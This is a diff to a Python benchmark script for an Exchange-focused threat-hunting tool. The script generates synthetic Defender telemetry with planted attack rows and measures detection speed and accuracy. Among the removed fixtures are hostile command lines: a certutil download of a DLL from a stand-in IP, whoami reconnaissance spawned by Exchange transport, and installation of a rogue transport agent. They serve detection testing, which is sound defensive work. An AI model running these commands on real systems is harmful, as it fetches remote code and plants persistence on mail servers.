@@ -1,10 +1,16 @@
 """Benchmark `exhunt detect` on generated Defender Advanced Hunting exports.
 
 Generates N rows of mixed MDE tables (portal-style CSV, and Parquet) spread over
-30 days, with a handful of planted true positives for the seed rule, then times
+30 days on 200 machines, expanded inside DuckDB from the noise model that
+`exhunt simulate --noise` uses too (exhunt.simulate.noise.TEMPLATES: ordinary
+Windows and Exchange activity, near misses included), and beside them every
+shipped scenario rendered by the simulator on a host of its own (its attacks are
+the true positives, its benign runs more near misses). Then it times
 `exhunt detect FOLDER` with every shipped rule and the default replay, as a user
 runs it, and, as the yardstick, DuckDB scanning the same files for the seed
-rule's columns with a plain SQL filter. Every measured command runs as a child
+rule's columns with a plain SQL filter. The alerts are judged as
+`exhunt simulate --check` judges them: each scenario's expected alerts, exactly,
+and none at all on the noise hosts. Every measured command runs as a child
 process; its peak memory is sampled from /proc over the whole process tree
 (reader workers are separate processes), beside the child's own peak RSS.
 
@@ -24,14 +30,20 @@ import argparse
 import json
 import os
 import platform
+import shutil
 import subprocess
 import sys
 import time
-from dataclasses import dataclass
-from datetime import datetime, timedelta
+from dataclasses import dataclass, replace
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import duckdb
+
+if TYPE_CHECKING:
+    from exhunt.simulate.check import Verdict
+    from exhunt.simulate.layout import Layout
 
 HERE = Path(__file__).resolve().parent
 sys.path.insert(0, str(HERE))
@@ -52,140 +64,15 @@ MIX = {
     "DeviceRegistryEvents": 0.05,
 }
 
+#: Where Exchange lives on the noise hosts (the simulator's default root).
 EXCH = r"C:\Program Files\Microsoft\Exchange Server\V15"
-SYS = r"C:\Windows\System32"
-USERS = ["svc-backup", "j.doe", "a.smith", "m.garcia", "exadmin", "k.lee", "r.patel", "system", "network service"]
-
-# Noise profiles: (ActionType, FileName, FolderPath, initiating file, initiating command line, on_exchange).
-# None of them matches the seed rule; several are deliberate near misses ({n} becomes a number).
-FILE_PROFILES = [
-    ("FileCreated", "chrome_{n}.tmp", r"C:\Users\{u}\AppData\Local\Temp\chrome_{n}.tmp", "chrome.exe",
-     '"chrome.exe" --type=utility', False),
-    ("FileModified", "NTUSER.DAT", r"C:\Users\{u}\NTUSER.DAT", "svchost.exe", "svchost.exe -k netsvcs -p", False),
-    ("FileCreated", "report_{n}.docx", r"C:\Users\{u}\Documents\report_{n}.docx", "WINWORD.EXE",
-     '"WINWORD.EXE" /n', False),
-    ("FileCreated", "mpasbase_{n}.vdm",
-     r"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\mpasbase_{n}.vdm", "MsMpEng.exe",
-     '"MsMpEng.exe"', False),
-    ("FileCreated", "msvcp_{n}.dll", SYS + r"\msvcp_{n}.dll", "TiWorker.exe", "TiWorker.exe -Embedding", False),
-    ("FileDeleted", "log_{n}.etl", r"C:\Windows\Logs\log_{n}.etl", "svchost.exe", "svchost.exe -k LocalService", False),
-    ("FileRenamed", "update_{n}.cab", r"C:\Windows\SoftwareDistribution\Download\update_{n}.cab", "svchost.exe",
-     "svchost.exe -k wusvcs", False),
-    # Exchange servers: their own file churn, all outside the rule.
-    ("FileCreated", "MSGTRK2026111{n}-1.LOG", EXCH + r"\TransportRoles\Logs\MessageTracking\MSGTRK2026111{n}-1.LOG",
-     "EdgeTransport.exe", '"EdgeTransport.exe"', True),
-    ("FileModified", "mail.que", EXCH + r"\TransportRoles\data\Queue\mail.que", "EdgeTransport.exe",
-     '"EdgeTransport.exe"', True),
-    ("FileModified", "Microsoft.Exchange.Transport.Agent.{n}.dll",
-     EXCH + r"\Bin\Microsoft.Exchange.Transport.Agent.{n}.dll", "ExSetup.exe", '"ExSetup.exe" /mode:Upgrade', True),
-    ("FileCreated", "Microsoft.Exchange.Data.{n}.dll", EXCH + r"\Bin\Microsoft.Exchange.Data.{n}.dll", "msiexec.exe",
-     "msiexec.exe /V", True),
-    ("FileDeleted", "old_{n}.dll", EXCH + r"\TransportRoles\agents\Hygiene\old_{n}.dll", "powershell.exe",
-     "powershell.exe -File cleanup.ps1", True),
-    ("FileCreated", "agent_{n}.dll.bak", EXCH + r"\TransportRoles\agents\agent_{n}.dll.bak", "robocopy.exe",
-     "robocopy.exe /MIR", True),
-    ("FileCreated", "tool_{n}.dll", r"D:\Backup\v15\Binaries\tool_{n}.dll", "robocopy.exe", "robocopy.exe /MIR", True),
-]
-
-# (FileName, FolderPath, command line, initiating file, initiating command line, parent, on_exchange)
-PROC_PROFILES = [
-    ("svchost.exe", SYS, "svchost.exe -k netsvcs -p -s Schedule", "services.exe", "services.exe", "wininit.exe", False),
-    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application",
-     '"chrome.exe" --type=renderer --renderer-client-id={n}', "chrome.exe", '"chrome.exe"', "explorer.exe", False),
-    ("conhost.exe", SYS, r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "cmd.exe", "cmd.exe /c ver",
-     "explorer.exe", False),
-    ("cmd.exe", SYS, 'cmd.exe /c "C:\\Scripts\\backup_{n}.bat"', "svchost.exe", "svchost.exe -k netsvcs",
-     "services.exe", False),
-    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0",
-     r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory_{n}.ps1", "svchost.exe",
-     "svchost.exe -k netsvcs", "services.exe", False),
-    ("git.exe", r"C:\Program Files\Git\cmd", "git.exe fetch origin {n}", "Code.exe", '"Code.exe"', "explorer.exe",
-     False),
-    ("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform", '"MsMpEng.exe"', "services.exe",
-     "services.exe", "wininit.exe", False),
-    # Exchange servers: transport children that are not in the rule's list, admin read-only cmdlets.
-    ("conhost.exe", SYS, r"\??\C:\Windows\system32\conhost.exe 0xffffffff", "EdgeTransport.exe",
-     '"EdgeTransport.exe"', "MSExchangeTransport.exe", True),
-    ("WerFault.exe", SYS, "WerFault.exe -u -p {n} -s 1234", "MSExchangeTransport.exe", '"MSExchangeTransport.exe"',
-     "services.exe", True),
-    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0",
-     "powershell.exe -NonInteractive -Command Get-TransportAgent | Format-List", "explorer.exe", "explorer.exe",
-     "userinit.exe", True),
-    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0",
-     "powershell.exe -Command Install-TransportAgentX -Name test{n}", "explorer.exe", "explorer.exe",
-     "userinit.exe", True),
-    ("cmd.exe", SYS, "cmd.exe /c Install-TransportAgent.txt", "w3wp.exe", "w3wp.exe -ap MSExchangeOWAAppPool",
-     "svchost.exe", True),
-]
-
-NET_PROFILES = [
-    ("ConnectionSuccess", "443", "www.bing.com", "chrome.exe"),
-    ("ConnectionSuccess", "25", "mx{n}.contoso.com", "EdgeTransport.exe"),
-    ("ConnectionFailed", "445", "", "System"),
-    ("InboundConnectionAccepted", "3389", "", "svchost.exe"),
-    ("ConnectionSuccess", "443", "login.microsoftonline.com", "OneDrive.exe"),
-]
-IMAGE_PROFILES = [
-    ("ntdll.dll", SYS, "svchost.exe"),
-    ("clr.dll", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319", "EdgeTransport.exe"),
-    ("Microsoft.Exchange.Transport.Agent.Hygiene.dll", EXCH + r"\TransportRoles\agents\Hygiene", "EdgeTransport.exe"),
-    ("chrome_elf.dll", r"C:\Program Files\Google\Chrome\Application", "chrome.exe"),
-]
-REG_PROFILES = [
-    ("RegistryValueSet", r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\bam\State\UserSettings",
-     "SequenceNumber", "{n}", "svchost.exe"),
-    ("RegistryKeyCreated", r"HKEY_CURRENT_USER\Software\Microsoft\Office\16.0\Word\Resiliency", "", "", "WINWORD.EXE"),
-    ("RegistryValueSet", r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Signature Updates",
-     "SignaturesLastUpdated", "{n}", "MsMpEng.exe"),
-]
-
-
-@dataclass(frozen=True)
-class Planted:
-    """One true positive the seed rule must report (and exactly these)."""
-
-    table: str
-    position: float  # where in the span, 0..1
-    device: int  # index into the Exchange servers (0..3)
-    detection: str
-    values: dict[str, str]
-
-
-PLANTED = [
-    Planted("DeviceFileEvents", 0.12, 0, "Exchange_Transport_DLL_Write", {
-        "ActionType": "FileCreated", "FileName": "msexchauth.dll",
-        "FolderPath": EXCH + r"\TransportRoles\agents\Hygiene\msexchauth.dll",
-        "InitiatingProcessFileName": "powershell.exe", "InitiatingProcessCommandLine": "powershell.exe -File i.ps1",
-        "InitiatingProcessAccountName": "exadmin"}),
-    Planted("DeviceFileEvents", 0.41, 1, "Exchange_Transport_DLL_Write", {
-        "ActionType": "FileModified", "FileName": "exdbdata.dll", "FolderPath": EXCH + r"\Bin\exdbdata.dll",
-        "InitiatingProcessFileName": "rundll32.exe", "InitiatingProcessCommandLine": "rundll32.exe x.dll,Start",
-        "InitiatingProcessAccountName": "system"}),
-    Planted("DeviceFileEvents", 0.77, 2, "Exchange_Transport_DLL_Write", {
-        "ActionType": "FileCreated", "FileName": "Interop.dll",
-        "FolderPath": EXCH + r"\FrontEnd\TransportAgent\Interop.dll",
-        "InitiatingProcessFileName": "cmd.exe", "InitiatingProcessCommandLine": "cmd.exe /c copy \\\\dc01\\s\\x.dll",
-        "InitiatingProcessAccountName": "j.doe"}),
-    Planted("DeviceProcessEvents", 0.30, 0, "Exchange_Transport_OS_Command", {
-        "FileName": "cmd.exe", "ProcessCommandLine": "cmd.exe /c whoami /all",
-        "InitiatingProcessFileName": "EdgeTransport.exe", "InitiatingProcessCommandLine": '"EdgeTransport.exe"',
-        "AccountName": "network service"}),
-    Planted("DeviceProcessEvents", 0.55, 1, "Exchange_Transport_OS_Command", {
-        "FileName": "certutil.exe", "ProcessCommandLine": "certutil.exe -urlcache -f http://203.0.113.7/a a.dll",
-        "InitiatingProcessFileName": "MSExchangeTransport.exe",
-        "InitiatingProcessCommandLine": '"MSExchangeTransport.exe"', "AccountName": "network service"}),
-    Planted("DeviceProcessEvents", 0.11, 0, "Exchange_Transport_Agent_Install", {
-        "FileName": "powershell.exe",
-        "ProcessCommandLine": 'powershell.exe -Command Install-TransportAgent -Name "Connectivity Agent" '
-                              r'-TransportAgentFactory Microsoft.Exchange.Transport.Agent.Connectivity.Factory '
-                              r'-AssemblyPath C:\ProgramData\msexchauth.dll',
-        "InitiatingProcessFileName": "explorer.exe", "InitiatingProcessCommandLine": "explorer.exe",
-        "AccountName": "exadmin"}),
-    Planted("DeviceProcessEvents", 0.93, 3, "Exchange_Transport_Agent_Install", {
-        "FileName": "pwsh.exe", "ProcessCommandLine": 'pwsh.exe -c Enable-TransportAgent "Connectivity Agent"',
-        "InitiatingProcessFileName": "explorer.exe", "InitiatingProcessCommandLine": "explorer.exe",
-        "AccountName": "exadmin"}),
-]
+#: The attack and benign scenarios run on hosts of their own (sim-01.contoso.local...), all starting here.
+SIM_HOST = "sim.contoso.local"
+SIM_START = START + timedelta(days=12, hours=2)
+#: The simulator's writer that makes each bench format's scenario files.
+WRITER = {"csv": "mde-csv", "parquet": "parquet"}
+_FILE_ACTION = {"created": "FileCreated", "modified": "FileModified", "deleted": "FileDeleted",
+                "renamed": "FileRenamed"}
 
 
 def _lit(value: str) -> str:
@@ -199,7 +86,9 @@ def _values(rows: list[tuple[object, ...]], names: list[str]) -> str:
 
 
 def _fill(expr: str, h: str) -> str:
-    """Replace {n} and {u} placeholders in a profile column with per-row values."""
+    """Replace the {n} and {u} placeholders of a template column with per-row values."""
+    from exhunt.simulate.noise import USERS
+
     users = "[" + ", ".join(_lit(u) for u in USERS) + "]"
     return (f"replace(replace({expr}, '{{n}}', CAST({h} % 100000 AS VARCHAR)), "
             f"'{{u}}', {users}[1 + CAST({h} % {len(USERS)} AS INTEGER)])")
@@ -211,12 +100,40 @@ def _n_rows(total: int) -> dict[str, int]:
     return counts
 
 
-def _planted_time(p: Planted) -> datetime:
-    return START + timedelta(seconds=int(DAYS * 86400 * p.position), microseconds=123456)
+def _split(path: str) -> tuple[str, str]:
+    folder, _, name = path.rpartition("\\")
+    return folder, name
+
+
+def template_rows(kind: str) -> list[tuple[object, ...]]:
+    """noise.TEMPLATES of `kind` as VALUES rows, each repeated by its weight (so a uniform pick
+    over the slots is a pick by weight); ${exchange} filled, {n} and {u} left for DuckDB."""
+    from exhunt.simulate.noise import TEMPLATES
+
+    rows: list[tuple[object, ...]] = []
+    for t in TEMPLATES:
+        if t.kind != kind:
+            continue
+        acct = t.account.lower()
+        domain = "nt authority" if acct in ("system", "network service") else "contoso"
+        image, parent, target = (x.replace("${exchange}", EXCH) for x in (t.image, t.parent, t.target))
+        for _ in range(t.weight):
+            rows.append((len(rows), *_split(image), t.command_line, *_split(parent), t.parent_command_line, acct,
+                         domain, t.action, target, _split(target)[1], t.value, t.data, t.exchange))
+    return rows
+
+
+_TEMPLATE_COLS = ["k", "folder", "fname", "cl", "pfolder", "pfname", "pcl", "acct", "dom", "act", "target", "tname",
+                  "val", "vdata", "exch"]
 
 
 def _select(table: str, n: int, days: int = DAYS) -> str:
-    """A SELECT producing `n` time-ordered rows of `table` with typed columns, over `days` days."""
+    """A SELECT producing `n` time-ordered rows of `table` with typed columns, over `days` days,
+    each drawn by weight from noise.TEMPLATES of the table's kind."""
+    from exhunt.simulate import noise
+
+    kind = next(k for k, t in noise.TABLES.items() if t == table)
+    rows = template_rows(kind)
     span_us = days * 86400 * 1_000_000
     ts = (f"(TIMESTAMP '{START.isoformat()}' + to_microseconds(CAST(i * {span_us} // {n} "
           f"+ hash(i, {SEED}) % 999983 AS BIGINT)))")
@@ -225,99 +142,72 @@ def _select(table: str, n: int, days: int = DAYS) -> str:
     dev = f"hash(i, {SEED} + 3)"
     device_expr = (f"CASE WHEN p.exch THEN CAST({dev} % 4 AS INTEGER) "
                    f"ELSE 4 + CAST({dev} % 196 AS INTEGER) END")
-    common = (f"{ts} AS Timestamp, d.DeviceId, d.DeviceName")
-    if table == "DeviceFileEvents":
-        profiles = _values([(i, *p) for i, p in enumerate(FILE_PROFILES)],
-                           ["k", "act", "fname", "folder", "ipf", "ipcl", "exch"])
-        cols = (f"{common}, p.act AS ActionType, {_fill('p.fname', h)} AS FileName, "
-                f"{_fill('p.folder', h)} AS FolderPath, "
+    common = f"{ts} AS Timestamp, d.DeviceId, d.DeviceName"
+    user = _fill("p.acct", h)
+    actor = (f"{user} AS InitiatingProcessAccountName, p.dom AS InitiatingProcessAccountDomain, "
+             f"p.fname AS InitiatingProcessFileName, p.folder || '\\' || p.fname AS InitiatingProcessFolderPath, "
+             f"{_fill('p.cl', h)} AS InitiatingProcessCommandLine, "
+             f"CAST(({h} >> 8) % 60000 AS BIGINT) AS InitiatingProcessId")
+    if kind == "file":
+        actions = "CASE p.act " + " ".join(f"WHEN '{a}' THEN '{d}'" for a, d in _FILE_ACTION.items()) + " END"
+        cols = (f"{common}, {actions} AS ActionType, {_fill('p.tname', h)} AS FileName, "
+                f"{_fill('p.target', h)} AS FolderPath, "
                 f"lower(hex(sha256(CAST({h} AS VARCHAR)))) AS SHA256, CAST({h} % 5000000 AS BIGINT) AS FileSize, "
-                f"CASE WHEN p.exch THEN 'nt authority' ELSE 'contoso' END AS InitiatingProcessAccountDomain, "
-                f"{_fill(chr(39) + '{u}' + chr(39), h)} AS InitiatingProcessAccountName, "
-                f"p.ipf AS InitiatingProcessFileName, "
-                f"'C:\\Windows\\System32\\' || p.ipf AS InitiatingProcessFolderPath, "
-                f"p.ipcl AS InitiatingProcessCommandLine, CAST({h} % 60000 AS BIGINT) AS InitiatingProcessId, "
-                f"'Local' AS RequestProtocol")
-        nprof = len(FILE_PROFILES)
-    elif table == "DeviceProcessEvents":
-        profiles = _values([(i, *p) for i, p in enumerate(PROC_PROFILES)],
-                           ["k", "fname", "folder", "cl", "ipf", "ipcl", "parent", "exch"])
+                f"{actor}, 'Local' AS RequestProtocol")
+    elif kind == "process":
         cols = (f"{common}, 'ProcessCreated' AS ActionType, p.fname AS FileName, "
                 f"p.folder || '\\' || p.fname AS FolderPath, lower(hex(sha256(p.fname))) AS SHA256, "
                 f"CAST({h} % 60000 AS BIGINT) AS ProcessId, {_fill('p.cl', h)} AS ProcessCommandLine, "
-                f"{ts} AS ProcessCreationTime, 'contoso' AS AccountDomain, "
-                f"{_fill(chr(39) + '{u}' + chr(39), h)} AS AccountName, "
+                f"{ts} AS ProcessCreationTime, p.dom AS AccountDomain, {user} AS AccountName, "
                 f"'S-1-5-21-1004336348-1177238915-682003330-' || CAST(1000 + {h} % 50 AS VARCHAR) AS AccountSid, "
-                f"{_fill(chr(39) + '{u}' + chr(39), h)} AS InitiatingProcessAccountName, "
-                f"p.ipf AS InitiatingProcessFileName, "
-                f"'C:\\Windows\\System32\\' || p.ipf AS InitiatingProcessFolderPath, "
-                f"p.ipcl AS InitiatingProcessCommandLine, CAST(({h} >> 8) % 60000 AS BIGINT) AS InitiatingProcessId, "
-                f"p.parent AS InitiatingProcessParentFileName")
-        nprof = len(PROC_PROFILES)
-    elif table == "DeviceNetworkEvents":
-        profiles = _values([(i, *p, i == 1) for i, p in enumerate(NET_PROFILES)],
-                           ["k", "act", "port", "url", "ipf", "exch"])
+                f"{user} AS InitiatingProcessAccountName, p.pfname AS InitiatingProcessFileName, "
+                f"p.pfolder || '\\' || p.pfname AS InitiatingProcessFolderPath, "
+                f"p.pcl AS InitiatingProcessCommandLine, CAST(({h} >> 8) % 60000 AS BIGINT) AS InitiatingProcessId")
+    elif kind == "network":
         cols = (f"{common}, p.act AS ActionType, "
                 f"'10.' || CAST({h} % 250 AS VARCHAR) || '.' || CAST(({h} >> 8) % 250 AS VARCHAR) || '.7' AS RemoteIP, "
-                f"CAST(p.port AS INTEGER) AS RemotePort, {_fill('p.url', h)} AS RemoteUrl, "
+                f"CAST(p.val AS INTEGER) AS RemotePort, {_fill('p.target', h)} AS RemoteUrl, "
                 f"'10.0.0.' || CAST(({h} >> 16) % 250 AS VARCHAR) AS LocalIP, "
-                f"CAST(49152 + {h} % 16000 AS INTEGER) AS LocalPort, 'Tcp' AS Protocol, "
-                f"p.ipf AS InitiatingProcessFileName, p.ipf AS InitiatingProcessCommandLine, "
-                f"{_fill(chr(39) + '{u}' + chr(39), h)} AS InitiatingProcessAccountName")
-        nprof = len(NET_PROFILES)
-    elif table == "DeviceImageLoadEvents":
-        profiles = _values([(i, *p, i in (1, 2)) for i, p in enumerate(IMAGE_PROFILES)],
-                           ["k", "fname", "folder", "ipf", "exch"])
-        cols = (f"{common}, 'ImageLoaded' AS ActionType, p.fname AS FileName, "
-                f"p.folder || '\\' || p.fname AS FolderPath, lower(hex(sha256(p.fname))) AS SHA256, "
-                f"p.ipf AS InitiatingProcessFileName, 'C:\\Windows\\System32' AS InitiatingProcessFolderPath, "
-                f"CAST({h} % 60000 AS BIGINT) AS InitiatingProcessId")
-        nprof = len(IMAGE_PROFILES)
-    elif table == "DeviceRegistryEvents":
-        profiles = _values([(i, *p, False) for i, p in enumerate(REG_PROFILES)],
-                           ["k", "act", "key", "vname", "vdata", "ipf", "exch"])
-        cols = (f"{common}, p.act AS ActionType, p.key AS RegistryKey, p.vname AS RegistryValueName, "
-                f"{_fill('p.vdata', h)} AS RegistryValueData, p.ipf AS InitiatingProcessFileName")
-        nprof = len(REG_PROFILES)
+                f"CAST(49152 + {h} % 16000 AS INTEGER) AS LocalPort, 'Tcp' AS Protocol, {actor}")
+    elif kind == "image_load":
+        cols = (f"{common}, 'ImageLoaded' AS ActionType, p.tname AS FileName, "
+                f"p.target AS FolderPath, lower(hex(sha256(p.tname))) AS SHA256, {actor}")
+    elif kind == "registry":
+        cols = (f"{common}, p.act AS ActionType, p.target AS RegistryKey, p.val AS RegistryValueName, "
+                f"{_fill('p.vdata', h)} AS RegistryValueData, {actor}")
     else:
         raise ValueError(table)
     devices = ("(SELECT CAST(k AS INTEGER) AS dn, "
                "CASE WHEN k < 4 THEN 'exch0' || CAST(k + 1 AS VARCHAR) || '.contoso.local' "
                "ELSE 'ws' || lpad(CAST(k AS VARCHAR), 4, '0') || '.contoso.local' END AS DeviceName, "
                "lower(hex(sha1(CAST(k AS VARCHAR)))) AS DeviceId FROM range(200) r(k))")
-    base = (f"SELECT {cols}, CAST(i + 1 AS BIGINT) AS ReportId, i FROM range({n}) r(i) "
-            f"JOIN {profiles} p ON p.k = CAST({pick} % {nprof} AS INTEGER) "
+    return (f"SELECT {cols}, CAST(i + 1 AS BIGINT) AS ReportId, i FROM range({n}) r(i) "
+            f"JOIN {_values(rows, _TEMPLATE_COLS)} p ON p.k = CAST({pick} % {len(rows)} AS INTEGER) "
             f"JOIN {devices} d ON d.dn = {device_expr}")
-    return base
 
 
-def _planted_sql(table: str, n: int) -> tuple[str, list[str]] | None:
-    """The planted rows of `table`, keyed by the row index (`pi`) they replace."""
-    mine = [p for p in PLANTED if p.table == table]
-    if not mine:
-        return None
-    rows = []
-    for p in mine:
-        i = min(n - 1, int(n * p.position))
-        t = _planted_time(p)
-        vals = {"Timestamp": f"TIMESTAMP '{t.isoformat()}'",
-                "DeviceName": _lit(f"exch0{p.device + 1}.contoso.local")}
-        vals.update({k: _lit(v) for k, v in p.values.items()})
-        rows.append((i, vals))
-    names = sorted({k for _, v in rows for k in v})
-    sel = " UNION ALL ".join(
-        f"SELECT {i} AS pi, " + ", ".join(f"{v.get(c, 'NULL')} AS {c}" for c in names) for i, v in rows)
-    return sel, names
+def scenarios() -> Layout:
+    """Every shipped scenario on its own host (sim-01.contoso.local...), all starting at SIM_START:
+    the bench's true positives (attacks) and near misses (benign installs and updates)."""
+    from exhunt.simulate.layout import lay_out
+    from exhunt.simulate.scenario import shipped
+
+    return lay_out(shipped(), SIM_HOST, SIM_START.replace(tzinfo=UTC), SEED)
 
 
 def generate(out: Path, rows: int) -> dict[str, int]:
-    """Write out/csv/<Table>.csv and out/parquet/<Table>.parquet; skip when already made for `rows`."""
+    """Write out/<format>/<Table>.<ext> (`rows` noise rows) and out/<format>/scenarios/NN-<id>/ (every
+    shipped scenario, rendered by the simulator); skip when already made for `rows`."""
+    from exhunt.simulate.formats import writers
+    from exhunt.simulate.noise import TEMPLATES
+
     stamp = out / "stamp.json"
-    want = {"rows": rows, "seed": SEED, "version": 3, "days": DAYS}
-    if stamp.exists() and json.loads(stamp.read_text()) == want:
+    want = {"rows": rows, "seed": SEED, "version": 4, "days": DAYS}
+    if stamp.exists() and want.items() <= json.loads(stamp.read_text()).items():
         return _n_rows(rows)
-    (out / "csv").mkdir(parents=True, exist_ok=True)
-    (out / "parquet").mkdir(parents=True, exist_ok=True)
+    for fmt in WRITER:
+        shutil.rmtree(out / fmt, ignore_errors=True)
+        (out / fmt).mkdir(parents=True)
     con = duckdb.connect()
     con.execute("SET preserve_insertion_order = true")
     for table, n in _n_rows(rows).items():
@@ -325,13 +215,7 @@ def generate(out: Path, rows: int) -> dict[str, int]:
             continue
         base = _select(table, n)
         cols = [d[0] for d in con.execute(f"SELECT * FROM ({base}) LIMIT 0").description if d[0] != "i"]
-        planted = _planted_sql(table, n)
-        if planted:
-            psel, pnames = planted
-            exprs = [f"COALESCE(pl.{c}, b.{c}) AS {c}" if c in pnames else f"b.{c}" for c in cols]
-            query = f"SELECT {', '.join(exprs)} FROM ({base}) b LEFT JOIN ({psel}) pl ON pl.pi = b.i ORDER BY b.i"
-        else:
-            query = f"SELECT {', '.join(cols)} FROM ({base}) ORDER BY i"
+        query = f"SELECT {', '.join(cols)} FROM ({base}) ORDER BY i"
         con.execute(f"COPY ({query}) TO '{out / 'parquet' / (table + '.parquet')}' (FORMAT parquet)").fetchall()
         # Portal CSV: every value as text, timestamps with 7 fractional digits and Z, CRLF line ends.
         texts = [
@@ -342,26 +226,11 @@ def generate(out: Path, rows: int) -> dict[str, int]:
         con.execute(f"COPY (SELECT {', '.join(texts)} FROM read_parquet('{src}')) TO "
                     f"'{out / 'csv' / (table + '.csv')}' (HEADER, NEW_LINE '\\r\\n')").fetchall()
     con.close()
-    stamp.write_text(json.dumps(want))
+    layout = scenarios()
+    for fmt, name in WRITER.items():
+        layout.write(writers()[name], out / fmt / "scenarios")
+    stamp.write_text(json.dumps({**want, "templates": len(TEMPLATES), "scenarios": len(layout.placed)}))
     return _n_rows(rows)
-
-
-def planted_records(rows: int) -> dict[tuple[str, str, str], tuple[str, str]]:
-    """(DetectionType, DeviceName, Timestamp) -> (file name, record) of each planted row, per format:
-    a CSV row is on line index + 2 (header first, no value spans lines), a Parquet row is `row index + 1`."""
-    counts = _n_rows(rows)
-    out = {}
-    for p in PLANTED:
-        i = min(counts[p.table] - 1, int(counts[p.table] * p.position))
-        key = (p.detection, f"exch0{p.device + 1}.contoso.local", _planted_time(p).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
-        out[key] = (p.table, f"{i + 2}|{i + 1}")
-    return out
-
-
-def expected() -> set[tuple[str, str, str]]:
-    """(DetectionType, DeviceName, Timestamp) of every planted alert."""
-    return {(p.detection, f"exch0{p.device + 1}.contoso.local", _planted_time(p).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
-            for p in PLANTED}
 
 
 # -- the yardstick: DuckDB scanning the same files ---------------------------
@@ -396,7 +265,7 @@ def scan(fmt: str, folder: Path) -> int:
     """The plain scan: the rule's columns and filters over its two tables, a count over the rest."""
     con = duckdb.connect()
     hits = 0
-    for path in sorted(folder.iterdir()):
+    for path in sorted(folder.rglob("*." + fmt)):  # the noise tables, then each scenario's
         table = path.stem
         src = (f"read_parquet('{path}')" if fmt == "parquet"
                else f"read_csv('{path}', header=true, all_varchar=true)")
@@ -456,28 +325,53 @@ def _exhunt() -> list[str]:
     return [str(exe)] if exe.exists() else [sys.executable, "-m", "exhunt"]
 
 
-def _check(alerts_file: Path, rows: int, fmt: str) -> tuple[set[tuple[str, str, str]], int, list[str]]:
-    """The seed rule's alerts, the number of all alerts, and every provenance that is wrong."""
-    want = planted_records(rows)
-    got: set[tuple[str, str, str]] = set()
-    wrong: list[str] = []
-    n = 0
+@dataclass
+class Outcome:
+    """What one detect run found, judged against every scenario's expectations."""
+
+    verdicts: list[Verdict]
+    alerts: int
+    on_noise: int  # alerts on a noise host: false positives of the shared noise model
+    wrong: list[str]  # provenance that names no file of the alert's own scenario
+
+    @property
+    def failed(self) -> list[Verdict]:
+        return [v for v in self.verdicts if not v.ok]
+
+
+def judge_alerts(alerts_file: Path, fmt: str, out: Path, rules: list[str]) -> Outcome:
+    """Each scenario's verdicts (simulate --check's judge) on the alerts of its own host; every alert
+    on a noise host fails; an alert's source_file must lie in its own scenario's folder. With
+    `rules`, only those rules' expectations are judged (as `detect --rules` runs only them)."""
+    from exhunt.rule import load_rules
+    from exhunt.simulate.check import by_host, judge
+    from exhunt.simulate.formats import writers
+    from exhunt.simulate.layout import Layout
+
+    chosen = load_rules(rules or None)
+    by_id = {r.id: r for r in chosen}
+    layout = scenarios()
+    if rules:  # a scenario's expectations of rules not run cannot be judged
+        slugs = {r.slug for r in chosen}
+        layout = Layout([replace(p, scenario=replace(p.scenario, expect=[e for e in p.scenario.expect
+                                                                          if e.rule in slugs], tuning=None))
+                         for p in layout.placed])
+    pairs = []
     for line in alerts_file.read_text().splitlines():
         a = json.loads(line)
-        n += 1
-        if not a.get("source_file") or not a.get("source_record"):
-            wrong.append(f"{a['rule_name']}: no provenance")
-        if "DetectionType" not in a:  # only the seed rule has this column
-            continue
-        key = (a.get("DetectionType"), a.get("DeviceName"), a.get("Timestamp"))
-        got.add(key)
-        if key in want:
-            table, records = want[key]
-            line_no, row_no = records.split("|")
-            record = f"line {line_no}" if fmt == "csv" else f"row {row_no}"
-            if Path(a["source_file"]).stem != table or a["source_record"] != record:
-                wrong.append(f"{key}: {a['source_file']} {a['source_record']}, want {table} {record}")
-    return got, n, wrong
+        pairs.append((a, by_id[a["rule_id"]]))
+    writer = writers()[WRITER[fmt]]
+    mine, stray = by_host(layout, pairs, writer.name)
+    verdicts: list[Verdict] = []
+    wrong: list[str] = []
+    folders = {p.host: f"{i:02d}-{p.scenario.id}" for i, p in enumerate(layout.placed, 1)}
+    for p in layout.placed:
+        verdicts += judge(p.scenario, writer, p.sim, mine[p.host], chosen)
+        for alert, rule in mine[p.host]:
+            src = alert.get("source_file") or ""
+            if src and Path(src).parent.name != folders[p.host]:
+                wrong.append(f"{rule.slug} on {p.host}: {src} {alert.get('source_record')}")
+    return Outcome(verdicts + stray, len(pairs), len(stray), wrong)
 
 
 def bench(rows: int, formats: list[str], repeat: int, out: Path, rules: list[str]) -> bool:
@@ -487,38 +381,43 @@ def bench(rows: int, formats: list[str], repeat: int, out: Path, rules: list[str
     subprocess.run([sys.executable, __file__, "--generate-only", "--rows", str(rows), "--out", str(out)], check=True)
     counts = _n_rows(rows)
     total = sum(counts.values())
-    print(f"data: {total:,} rows over {DAYS} days ({', '.join(f'{t} {n:,}' for t, n in counts.items())}); "
+    made = json.loads((out / "stamp.json").read_text())
+    print(f"data: {total:,} noise rows over {DAYS} days ({', '.join(f'{t} {n:,}' for t, n in counts.items())}) "
+          f"from {made['templates']} noise templates, and {made['scenarios']} shipped scenarios on hosts of "
+          f"their own; "
           f"generated or reused in {time.perf_counter() - t0:.1f} s")
     print(f"machine: {os.cpu_count()} cores, Python {platform.python_version()}, duckdb {duckdb.__version__}")
-    ok = True
-    want = expected()
     print(f"detect: exhunt detect FOLDER {' '.join('--rules ' + r for r in rules) or '(every shipped rule)'}")
-    header = f"{'format':8} {'size MB':>8} {'scan s':>7} {'scan MB':>8} {'detect s':>9} {'rows/s':>10} " \
-             f"{'peak MB':>8} {'tree MB':>8} {'ratio':>6} alerts"
-    print(header)
